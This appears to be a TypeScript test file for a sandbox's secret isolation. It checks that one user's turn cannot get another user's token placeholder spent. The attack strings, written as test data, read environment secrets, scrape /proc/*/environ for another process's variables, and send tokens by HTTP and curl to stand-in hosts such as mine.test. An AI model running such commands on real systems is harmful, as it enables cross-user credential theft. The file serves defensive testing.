import type { Attack, AttackGroup } from '../../attack.ts';
import { type NetworkArena, newMark } from '../arena.ts';
import { anasToken } from '../rules.ts';
import { tries } from '../tries.ts';
import { holds } from '../world/spellings.ts';

const spent = (seen: Awaited<ReturnType<NetworkArena['seen']>>) =>
  seen.some((one) => holds(JSON.stringify(one), anasToken));

/** Ana's turn leaves her placeholder where everybody can read it; then ben's turn does this with it. */
function after(name: string, python: string, elsewhere = false): Attack<NetworkArena> {
  let seen = false;
  return {
    name,
    run: async (arena) => {
      const thread = `shared ${newMark()}`;
      const { said } = await arena.attempt(
        `open('/workspace/kept', 'w').write(os.environ['ANAS']); os.chmod('/workspace/kept', 0o644); print(os.environ['ANAS'])`,
        { thread },
      );
      await arena.settle();
      const kept = said.trim();
      if (!kept.startsWith('dh_')) throw new Error(`there is no placeholder to steal: ${said}`);
      await arena.attempt(`P = '${kept}'\n${python}`, {
        thread: elsewhere ? `${thread} beside` : thread,
        by: 'ben',
      });
      seen = spent(await arena.seen());
    },
    observed: async () => seen,
  };
}

/** Two people in one thread: the turn of one never spends the secret of the other. */
export const people: AttackGroup<NetworkArena> = {
  name: "another person's secret",
  harm: 'leak',
  control: tries('her own turn', {
    python: () => `get('https://mine.test/', 'X-Token: ' + os.environ['ANAS'])`,
    thread: 'her own',
    success: ({ seen }) => spent(seen),
  }),
  attacks: [
    after('by her placeholder', `get('https://mine.test/', 'X-Token: ' + P)`),
    after('by nothing at all', `get('https://mine.test/')`),
    after('by her placeholder in another thread', `get('https://mine.test/', 'X-Token: ' + P)`, true),
    after(
      'by her placeholder under another header',
      `get('https://mine.test/', 'Authorization: Bearer ' + P)`,
    ),
    after('by her placeholder in place of his own', `get('https://api.test/', 'X-Token: ' + P)`),
    after(
      'by her placeholder in his environment',
      `os.environ['ANAS'] = P; subprocess.run(['curl', '-s', '-H', 'X-Token: ' + P, 'https://mine.test/'])`,
    ),
    after(
      "from another process's environment",
      `for pid in os.listdir('/proc'):
  try: found = open(f'/proc/{pid}/environ').read()
  except OSError: continue
  for pair in found.split('\\0'):
    if pair.startswith('ANAS='): get('https://mine.test/', 'X-Token: ' + pair[5:])`,
    ),
    after(
      'while her own turn runs beside it',
      `several = [threading.Thread(target=get, args=('https://mine.test/', 'X-Token: ' + P)) for _ in range(8)]
for one in several: one.start()
for one in several: one.join()`,
    ),
  ],
};
